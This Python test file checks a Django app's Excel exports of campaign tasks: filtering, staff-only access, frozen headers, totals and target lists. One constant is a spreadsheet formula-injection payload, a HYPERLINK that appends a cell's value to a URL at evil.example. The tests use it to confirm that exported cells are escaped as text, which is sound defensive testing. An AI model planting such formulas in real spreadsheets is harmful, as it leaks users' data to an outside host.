"""The task workbooks: the list (filtered as the REST list is) and one task's; staff only; formula-safe cells,
frozen header rows, widths; and the SQL total the status filter uses agrees with ``Task.target_total``."""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from wenming.campaign import exports
from wenming.campaign.models import Campaign, Milestone, Task
from wenming.campaign.services import tasks as svc
from wenming.conftest import photo_bytes
from wenming.demo.campaign import campaign_demo_build
from wenming.org.models import Person, Unit

pytestmark = pytest.mark.django_db
TODAY = timezone.localdate()
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def campaign(db):
    campaign_demo_build()
    return Campaign.objects.get(code="HS-2022")


@pytest.fixture
def task(campaign):
    """A task behind plan today, whose title a spreadsheet would read as a formula."""
    return Task.objects.create(
        campaign=campaign, action=campaign.actions.get(code="R06"), code="X-1", title=EVIL,
        lead_unit=Unit.objects.get(code="CGJ-131102"), starts_on=TODAY - dt.timedelta(days=10),
        due_on=TODAY + dt.timedelta(days=10), target_kind="percent", target_value=Decimal(100))


def book(response):
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert response["Content-Disposition"].startswith("attachment;")
    return load_workbook(io.BytesIO(response.content))


def test_the_task_list_workbook(english, client, people, task, campaign, media_and_english):
    client.force_login(people["chengguan"])
    wb = book(client.get(reverse("campaign:tasks_export")))
    [sheet] = wb.worksheets
    assert sheet.title == "Tasks" and sheet.freeze_panes == "A2"
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:3] == ("Code", "Action", "Title") and rows[0][-1] == "Next report due"
    assert len(rows) == 1 + Task.objects.filter(campaign=campaign).count()
    row = next(r for r in rows if r[0] == "X-1")
    assert row[2] == "'" + EVIL  # text, never a formula
    assert row[3] == task.lead_unit.name
    assert row[6] == dt.datetime.combine(task.starts_on, dt.time()) and row[13] == "Behind plan"
    assert row[8] == 100 and row[10] == 0 and row[11] == 50 and row[12] == 0
    assert sheet.column_dimensions["C"].width == 44


def test_the_list_is_filtered_as_the_api_filters(english, client, people, task, media_and_english):
    client.force_login(people["shouli"])
    url = reverse("campaign:tasks_export")
    rows = list(book(client.get(url, {"status": "behind", "action": "R06"})).active.iter_rows(values_only=True))[1:]
    assert [r[0] for r in rows] == ["X-1"]
    rows = list(book(client.get(url, {"q": "X-1", "status": "done"})).active.iter_rows(values_only=True))[1:]
    assert rows == []
    # A wrong filter exports nothing (the file would hold more than was asked for): back with the reason.
    response = client.get(url, {"status": "late"})
    assert response.status_code == 302 and response["Location"] == reverse("campaign:overview")


def test_one_tasks_workbook(english, client, people, task, media_and_english):
    Milestone.objects.create(task=task, title="过半", due_on=TODAY, planned_value=Decimal(50))
    svc.progress_report(task_id=task.pk, actor=people["chengguan"], value=20, narrative="=1+1 清理20处",
                        files=[svc.Upload("现场.png", photo_bytes())])
    client.force_login(people["shouli"])
    wb = book(client.get(reverse("campaign:task_export", args=[task.pk])))
    info, reports = wb.worksheets
    assert info.title == "Task" and reports.title == "Progress reports"
    assert info.freeze_panes == "A2" and reports.freeze_panes == "A2"
    fields = {r[0]: r[1] for r in info.iter_rows(values_only=True) if r and r[0]}
    assert fields["Title"] == "'" + EVIL and fields["Status"] == "Behind plan" and fields["Current value"] == 20
    assert fields["Planned today"] == 50 and fields["Percent done"] == 20
    milestone_rows = list(info.iter_rows(values_only=True))
    assert any(r[0] == "过半" and r[2] == 50 for r in milestone_rows)
    [header, row] = list(reports.iter_rows(values_only=True))
    assert header[:2] == ("Reported at", "Unit")
    assert row[1] == task.lead_unit.name and row[3] == 20 and row[4] == "'=1+1 清理20处" and row[5] == "现场.png"


def test_downloads_are_staff_only(client, task):
    for url in (reverse("campaign:tasks_export"), reverse("campaign:task_export", args=[task.pk])):
        assert client.get(url).status_code == 302  # to the login page
        nobody = Person.objects.create(username="nobody", display_name="无角色")
        client.force_login(nobody)
        assert client.get(url).status_code == 404
        client.logout()
        nobody.delete()


def test_sql_total_agrees_with_target_total(campaign):
    """The done filter compares in SQL; it must be the property's figure for every kind of target."""
    totals = dict(Task.objects.filter(campaign=campaign).annotate(t=exports._TOTAL).values_list("pk", "t"))
    for t in Task.objects.filter(campaign=campaign):
        assert Decimal(totals[t.pk]) == Decimal(t.target_total), t.code
    assert {t.target_kind for t in Task.objects.filter(campaign=campaign)} == {"count", "percent", "done"}


def test_the_pages_link_their_workbooks(client, people, task, campaign):
    client.force_login(people["chengguan"])
    overview = client.get(reverse("campaign:overview")).content.decode()
    assert f'href="{reverse("campaign:tasks_export")}"' in overview
    page = client.get(reverse("campaign:task", args=[task.pk])).content.decode()
    assert f'href="{reverse("campaign:task_export", args=[task.pk])}"' in page
    force = campaign.task_forces.first()
    board = client.get(reverse("campaign:force", args=[force.pk])).content.decode()
    assert f'{reverse("campaign:tasks_export")}?task_force={force.code}"' in board


def test_a_task_workbook_holds_its_target_list_as_the_reader_sees_it(english, client, people, campaign,
                                                                     media_and_english):
    from wenming.campaign.models import TargetLine
    from wenming.campaign.services.targets import targets_refresh
    from wenming.common.access import restrict

    targets_refresh(campaign_id=campaign.pk)
    task = Task.objects.get(campaign=campaign, code="I01-3")  # at least 3 youth palaces per township
    client.force_login(people["zhiban"])
    wb = book(client.get(reverse("campaign:task_export", args=[task.pk])))
    lines = wb.worksheets[2]
    assert lines.title == "Target list" and lines.freeze_panes == "A2"
    header, *rows = list(lines.iter_rows(values_only=True))
    assert header[:5] == ("Area", "Site", "Type", "Owner unit", "Status")
    assert len(rows) == TargetLine.objects.filter(task=task).count()
    gaps = [r[7] for r in rows]
    assert gaps[0] == max(gaps) and all(r[6] == 3 for r in rows)  # largest gap first; three required in each
    client.force_login(people["chengguan"])  # a unit: the lines its scope holds
    wb = book(client.get(reverse("campaign:task_export", args=[task.pk])))
    assert len(list(wb.worksheets[2].iter_rows())) - 1 == restrict(TargetLine.objects.filter(task=task),
                                                                    people["chengguan"]).count()
    plain = Task.objects.get(campaign=campaign, code="R01-1")
    client.force_login(people["zhiban"])
    assert len(book(client.get(reverse("campaign:task_export", args=[plain.pk]))).worksheets) == 2
